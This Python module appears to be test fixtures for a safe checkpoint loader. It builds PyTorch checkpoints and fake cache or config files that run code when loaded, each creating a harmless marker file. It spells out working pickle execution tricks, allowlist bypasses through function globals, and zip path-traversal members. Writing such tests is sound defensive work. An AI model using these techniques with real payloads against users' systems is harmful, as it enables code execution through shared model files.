"""Files that run code when they are read carelessly: checkpoints, and files that pose as a cache or a config.

Each of them creates the file `mark` when it is unpickled or run. Each checkpoint is a valid one with something added, so that
a refusal can only be about the addition.
"""

from __future__ import annotations

import builtins
import functools
import hashlib
import importlib
import io
import os
import pickle
import struct
import sys
import tarfile
import warnings
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import torch

SYSTEM = os.name, "system"  # the name of os.system in a pickle
MODULE = "module_that_must_not_be_imported"  # a file beside the mark; importing it creates the mark
EXTRACTED = "extracted"  # if a file of this name exists, an archive was extracted

Build = Callable[["Innocent", Path], bytes]  # (valid checkpoint, path of the mark) -> contents of the file


@dataclass(frozen=True)
class Hostile:
    """A kind of malicious checkpoint."""

    name: str
    build: Build
    culprit: str | None  # the name in the refusal; None if a careful reader stops before it reads a name


CHECKPOINTS: dict[str, Hostile] = {}


def hostile(name: str, culprit: str | None = None) -> Callable[[Build], Build]:
    """Add a builder to CHECKPOINTS."""

    def add(build: Build) -> Build:
        CHECKPOINTS[name] = Hostile(name, build, culprit)
        return build

    return add


def stamped(content: bytes, run_id: str, batch: int) -> bytes:
    """Add the stamp and SHA-256 of format 3. Anybody can compute them: they do not prove that a file is harmless."""
    content += f"jojo-run:{run_id} batch:{batch:020d} ".encode()
    return content + b"jojo-sha256:" + hashlib.sha256(content).hexdigest().encode()


# --- what is added ------------------------------------------------------------------------------------------------------


class Calls:
    """An object whose pickle is a function call."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = function, arguments

    def __reduce__(self) -> tuple[Any, ...]:
        return self.call


def command(mark: Path) -> str:
    """A shell command that creates the mark."""
    return f'echo > "{mark}"'


def expression(mark: Path) -> str:
    """Python code that creates the mark, both an expression and a statement."""
    return f"open({str(mark)!r}, 'w').close()"


def write_module(mark: Path) -> None:
    """Write a module beside the mark; importing it creates the mark."""
    (mark.parent / f"{MODULE}.py").write_text(expression(mark) + "\n", encoding="utf-8")


# Opcodes of pickle, for files that no __reduce__ can produce.


def name(module: str, attribute: str) -> bytes:
    """GLOBAL: push module.attribute."""
    return f"c{module}\n{attribute}\n".encode()


def text(value: str) -> bytes:
    """BINUNICODE: push a string."""
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def call(function: bytes, *arguments: bytes) -> bytes:
    """REDUCE: call with arguments, push the result."""
    return function + b"(" + b"".join(arguments) + b"tR"


def put(place: int) -> bytes:
    """LONG_BINPUT: store the top of the stack in the memo."""
    return b"r" + struct.pack("<I", place)


def get(place: int) -> bytes:
    """LONG_BINGET: push a value from the memo."""
    return b"j" + struct.pack("<I", place)


POP, STACK_GLOBAL, NEWOBJ, BUILD, EMPTY_DICT, NONE, SETITEM, STOP = b"0", b"\x93", b"\x81", b"b", b"}", b"N", b"s", b"."
EVAL = name("builtins", "eval")


# --- the checkpoint around it -------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Innocent:
    """A valid checkpoint: its contents, and the file that torch.save writes."""

    state: dict[str, Any]

    def plus(self, **more: Any) -> dict[str, Any]:
        """The contents with further entries; every dictionary is a copy that may be changed."""
        return copied(self.state) | more

    @functools.cached_property
    def file(self) -> bytes:
        return saved(self.state)

    @functools.cached_property
    def pickle(self) -> bytes:
        return dict(members(self.file))["archive/data.pkl"]

    def pickle_with(self, code: bytes, protocol: int = 2, key: str = "extra") -> bytes:
        """The pickle with one more or one replaced entry, whose value this code pushes."""
        return b"\x80" + bytes([protocol]) + self.pickle[2:-1] + text(key) + code + SETITEM + STOP

    def with_item(self, code: bytes, protocol: int = 2) -> bytes:
        """The file with this pickle."""
        return self.repacked(self.pickle_with(code, protocol))

    def repacked(self, data: bytes, *more: tuple[str, bytes]) -> bytes:
        """The file with this data.pkl, and with more members after it."""
        kept = [(member, data if member == "archive/data.pkl" else content) for member, content in members(self.file)]
        return zipped(*kept, *more)


def copied(value: Any) -> Any:
    """Copy nested dictionaries, but not their other values."""
    return {key: copied(entry) for key, entry in value.items()} if isinstance(value, dict) else value


def saved(state: Any) -> bytes:
    """The bytes that torch.save writes."""
    buffer = io.BytesIO()
    torch.save(state, buffer)
    return buffer.getvalue()


def members(content: bytes) -> Iterator[tuple[str, bytes]]:
    """Names and contents of all members of a zip, even if several have the same name."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for member in archive.infolist():
            yield member.filename, archive.read(member)


def zipped(*files: tuple[str, bytes]) -> bytes:
    """A zip as torch.save writes it, uncompressed."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # about a second member of the same name
        for member, content in files:
            archive.writestr(member, content)
    return buffer.getvalue()


# --- checkpoints: calls by __reduce__ -------------------------------------------------------------------------------------


@hostile("os.system", ".".join(SYSTEM))
def os_system(good: Innocent, mark: Path) -> bytes:
    return saved(good.plus(extra=Calls(os.system, command(mark))))


@hostile("eval", "eval")
def eval_(good: Innocent, mark: Path) -> bytes:
    return saved(good.plus(extra=Calls(builtins.eval, expression(mark))))


@hostile("exec", "exec")
def exec_(good: Innocent, mark: Path) -> bytes:
    return saved(good.plus(extra=Calls(builtins.exec, expression(mark))))


@hostile("subprocess", "subprocess.Popen")
def popen(good: Innocent, mark: Path) -> bytes:
    words = b"(" + text(sys.executable) + text("-SEc") + text(expression(mark)) + b"l"
    return good.with_item(call(name("subprocess", "Popen"), words))


@hostile("import a module of the current folder", "importlib.import_module")
def import_module(good: Innocent, mark: Path) -> bytes:
    write_module(mark)
    return saved(good.plus(extra=Calls(importlib.import_module, MODULE)))


@hostile("deep in the optimizer's state", ".".join(SYSTEM))
def in_optimizer(good: Innocent, mark: Path) -> bytes:
    state = good.plus()
    deep: Any = Calls(os.system, command(mark))
    for _ in range(20):
        deep = [({"deeper": deep},)]
    state["optimizer"]["transformer.wpe.weight"]["exp_avg_sq"] = deep
    return saved(state)


@hostile("in the metadata", ".".join(SYSTEM))
def in_metadata(good: Innocent, mark: Path) -> bytes:
    state = good.plus()
    state["metadata"]["dataset"]["train"] = ("1", [Calls(os.system, command(mark))])
    return saved(state)


@hostile("as a key", ".".join(SYSTEM))
def as_key(good: Innocent, mark: Path) -> bytes:
    state = good.plus()
    state["model"][Calls(os.system, command(mark))] = torch.zeros(1)
    return saved(state)


@hostile("as the whole file", ".".join(SYSTEM))
def as_whole(good: Innocent, mark: Path) -> bytes:
    return saved(Calls(os.system, command(mark)))


# --- checkpoints: calls through allowed names ----------------------------------------------------------------------------


@hostile("getattr on an allowed function", "getattr")
def getattr_chain(good: Innocent, mark: Path) -> bytes:
    """_rebuild_tensor_v2.__globals__["__builtins__"]["eval"](...), with nothing but getattr and calls."""
    attribute = functools.partial(call, name("builtins", "getattr"))
    its_globals = attribute(name("torch._utils", "_rebuild_tensor_v2"), text("__globals__"))
    its_builtins = call(attribute(its_globals, text("get")), text("__builtins__"))
    found = call(attribute(its_builtins, text("get")), text("eval"))
    return good.with_item(call(found, text(expression(mark))))


@hostile("attrgetter on an allowed function", "operator.attrgetter")
def attrgetter_chain(good: Innocent, mark: Path) -> bytes:
    getter = functools.partial(call, name("operator", "attrgetter"))
    of_globals = call(getter(text("__globals__.get")), name("torch._utils", "_rebuild_tensor_v2"))
    of_builtins = call(getter(text("get")), call(of_globals, text("__builtins__")))
    return good.with_item(call(call(of_builtins, text("eval")), text(expression(mark))))


@hostile("a dotted name below an allowed module", "torch.serialization.os.system")
def below_allowed_module(good: Innocent, mark: Path) -> bytes:
    return good.with_item(call(name("torch.serialization", "os.system"), text(command(mark))), protocol=4)


@hostile("torch.load with the plain unpickler", "torch.serialization.load")
def torch_load(good: Innocent, mark: Path) -> bytes:
    """A second file, read with the module pickle: torch.load then unpickles without restrictions."""
    second = mark.parent / "second_stage.bin"
    second.write_bytes(pickle.dumps(Calls(os.system, command(mark)), 2))
    return saved(good.plus(extra=Calls(torch.load, str(second), None, Calls(importlib.import_module, "pickle"))))


@hostile("allowing itself what it calls", "torch.serialization.add_safe_globals")
def allow_itself(good: Innocent, mark: Path) -> bytes:
    first = Calls(torch.serialization.add_safe_globals, [os.system])
    return saved(good.plus(a=first, b=Calls(os.system, command(mark))))


@hostile("as the class of a storage", "eval")
def as_storage(good: Innocent, mark: Path) -> bytes:
    """The call is in the place where a tensor names its storage."""
    storage = b"(" + text("storage") + call(EVAL, text(expression(mark))) + text("0") + text("cpu") + b"K\x01t"
    return good.with_item(storage + b"Q")


# --- checkpoints: state that is called ------------------------------------------------------------------------------------


@hostile("__setstate__ given to an instance", ".".join(SYSTEM))
def own_setstate(good: Innocent, mark: Path) -> bytes:
    """The first BUILD gives an OrderedDict a __setstate__, and the second one calls it."""
    ordered = call(name("collections", "OrderedDict"))
    method = EMPTY_DICT + text("__setstate__") + name(*SYSTEM) + SETITEM
    return good.with_item(ordered + method + BUILD + text(command(mark)) + BUILD)


@hostile("__setstate__ of a class", "functools.partial")
def partial_setstate(good: Innocent, mark: Path) -> bytes:
    """A partial whose state says what it calls."""
    partial = name("functools", "partial") + b"(" + name("builtins", "print") + b"t" + NEWOBJ
    state = b"(" + EVAL + b"(" + text(expression(mark)) + b"t" + EMPTY_DICT + NONE + b"t"
    return good.with_item(partial + state + BUILD + b")R")


# --- checkpoints: other ways to name a function ---------------------------------------------------------------------------


@hostile("merely naming a module of the current folder", f"{MODULE}.anything")
def merely_named(good: Innocent, mark: Path) -> bytes:
    """Looking up the name imports the module; no call is needed."""
    write_module(mark)
    return good.with_item(name(MODULE, "anything"))


@hostile("STACK_GLOBAL")
def stack_global(good: Innocent, mark: Path) -> bytes:
    return good.with_item(call(text("os") + text("system") + STACK_GLOBAL, text(command(mark))))


@hostile("STACK_GLOBAL with a dotted name")
def stack_global_dotted(good: Innocent, mark: Path) -> bytes:
    return good.with_item(call(text("os") + text("path.os.system") + STACK_GLOBAL, text(command(mark))), protocol=4)


@hostile("INST")
def inst(good: Innocent, mark: Path) -> bytes:
    """The oldest opcode for a call: the name is its argument."""
    return good.with_item(b"(" + text(command(mark)) + f"i{SYSTEM[0]}\n{SYSTEM[1]}\n".encode())


@hostile("a name of Python 2", "eval")
def python_2(good: Innocent, mark: Path) -> bytes:
    return good.with_item(call(name("__builtin__", "eval"), text(expression(mark))))


@hostile("called from the memo", ".".join(SYSTEM))
def from_memo(good: Innocent, mark: Path) -> bytes:
    """Name a function first and call it last, through a place in the memo that other values overwrite in between."""
    data, system = good.pickle, name(*SYSTEM) + put(70_000) + POP
    arguments = text(command(mark)) + put(70_001) + POP + b"(" + get(70_001) + b"t" + put(70_001) + POP
    later = text("extra") + get(70_000) + put(0) + POP + get(0) + get(70_001) + b"R" + SETITEM
    return good.repacked(data[:2] + system + arguments + data[2:-1] + later + STOP)


@hostile("named from the memo")
def name_from_memo(good: Innocent, mark: Path) -> bytes:
    """The module and the attribute are stored as plain strings, far apart, and joined later."""
    data = good.pickle
    names = text(SYSTEM[0]) + put(70_000) + POP + text(SYSTEM[1]) + put(70_001) + POP
    later = text("extra") + call(get(70_000) + get(70_001) + STACK_GLOBAL, text(command(mark))) + SETITEM
    return good.repacked(data[:2] + names + data[2:-1] + later + STOP)


@hostile("called and forgotten", ".".join(SYSTEM))
def forgotten(good: Innocent, mark: Path) -> bytes:
    """The call comes before the checkpoint's own pickle, and its result is dropped."""
    data = good.pickle
    return good.repacked(data[:2] + call(name(*SYSTEM), text(command(mark))) + POP + data[2:])


# --- checkpoints: other containers ----------------------------------------------------------------------------------------


@hostile("a file of before 2019")
def legacy(good: Innocent, mark: Path) -> bytes:
    """A series of pickles, no zip."""
    buffer = io.BytesIO()
    torch.save(good.plus(extra=Calls(os.system, command(mark))), buffer, _use_new_zipfile_serialization=False)
    return buffer.getvalue()


@hostile("a bare pickle")
def bare(good: Innocent, mark: Path) -> bytes:
    return pickle.dumps({"model": Calls(os.system, command(mark))}, 2)


@hostile("a tar of before 2017")
def tar(good: Innocent, mark: Path) -> bytes:
    buffer = io.BytesIO()
    files = {
        "storages": pickle.dumps(0, 2) + pickle.dumps([], 2),
        "tensors": pickle.dumps(0, 2),
        "pickle": pickle.dumps({"model": Calls(os.system, command(mark))}, 2),
    }
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        for member, content in files.items():
            entry = tarfile.TarInfo(member)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return buffer.getvalue()


@hostile("a way out of the archive")
def way_out(good: Innocent, mark: Path) -> bytes:
    """Members whose extraction would write outside the archive's folder."""
    data = good.pickle_with(call(name(*SYSTEM), text(command(mark))))
    return good.repacked(data, (f"../../{EXTRACTED}", b"evil"), (str(mark.parent / EXTRACTED), b"evil"))


@hostile("a way out of the archive's folder", ".".join(SYSTEM))
def way_out_of_folder(good: Innocent, mark: Path) -> bytes:
    data = good.pickle_with(call(name(*SYSTEM), text(command(mark))))
    ways = (f"archive/../../{EXTRACTED}", f"archive/data/../../../{EXTRACTED}")
    return good.repacked(data, *((way, b"evil") for way in ways))


@hostile("a TorchScript archive")
def torchscript(good: Innocent, mark: Path) -> bytes:
    """constants.pkl makes torch.load treat the file as TorchScript, which has another reader."""
    code = b"def forward(self):\n  return 1\n"
    evil = pickle.dumps(Calls(os.system, command(mark)), 2)
    return good.repacked(evil, ("archive/constants.pkl", evil), ("archive/code/__torch__.py", code))


def two_pickles(good: Innocent, mark: Path, evil_first: bool, folder: str) -> bytes:
    """Two members named data.pkl, in one folder or two: a harmless one, and one that creates the mark."""
    both = [good.pickle, good.pickle_with(call(name(*SYSTEM), text(command(mark))))]
    first, second = reversed(both) if evil_first else both
    return good.repacked(first, (f"{folder}/data.pkl", second))


hostile("a second data.pkl")(functools.partial(two_pickles, evil_first=False, folder="archive"))
hostile("a second data.pkl after the evil one")(functools.partial(two_pickles, evil_first=True, folder="archive"))
hostile("a data.pkl in another folder")(functools.partial(two_pickles, evil_first=True, folder="other"))


# --- files that pose as a cache, a data set or a config -------------------------------------------------------------------


def pickled(mark: Path) -> bytes:
    return pickle.dumps({"format": 1, "tokens": Calls(os.system, command(mark))}, 2)


def object_array(mark: Path) -> bytes:
    """An .npy file whose elements are pickled objects."""
    array = np.empty(2, dtype=object)
    array[:] = [Calls(os.system, command(mark)), 1]
    buffer = io.BytesIO()
    np.save(buffer, array)
    return buffer.getvalue()


def python_code(mark: Path) -> bytes:
    """A config in Python, as nanoGPT reads it."""
    return f"{expression(mark)}\nbatch_size = 4\n".encode()


OTHER_FILES: dict[str, Callable[[Path], bytes]] = {
    "pickle": pickled,
    "object array": object_array,
    "Python code": python_code,
}
